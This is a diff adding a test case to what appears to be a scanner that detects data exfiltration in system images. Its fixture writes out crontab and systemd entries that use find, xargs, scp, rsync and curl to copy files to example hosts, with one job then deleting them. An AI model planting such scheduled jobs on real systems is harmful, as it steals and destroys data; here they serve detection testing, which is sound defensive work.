@@ -59,6 +59,24 @@ TEST_CASE("registered: what artefacts and their scripts would send") {
                              "rsync out 192.0.2.8"});
 }
 
+TEST_CASE("registered: what find starts goes out as find would have it") {
+  const Image image(Files{
+      {"/etc/crontab",
+       "0 2 * * * root find /a -name '*.csv' -exec scp {} u@192.0.2.1: \\;\n"
+       "0 3 * * * root nice find /a -exec rsync -a {} u@192.0.2.2:/b ';' -exec rm {} +\n"
+       "0 4 * * * root find /a -type f | xargs -I{} scp {} u@192.0.2.3:\n"},
+      {"/etc/systemd/system/a.service",
+       "[Service]\nExecStart=/usr/bin/find /a -exec curl -sT {} ftp://192.0.2.4/ \\;\n"},
+  });
+  const Inventory inventory = collect(image);
+  const auto found = find_registered(inventory, image, auexfil::test::rules().tools);
+  CHECK(told(found) == Lines{"/etc/crontab:1: scp out 192.0.2.1",
+                             "/etc/crontab:2: rsync out 192.0.2.2",
+                             "/etc/crontab:3: scp out 192.0.2.3",
+                             "/etc/systemd/system/a.service: curl out 192.0.2.4"});
+  CHECK(found.at(0).command == "scp $ u@192.0.2.1:");
+}
+
 TEST_CASE("registered: when each ran last") {
   const Image image(Files{
       {"/etc/debian_version", "12\n"},
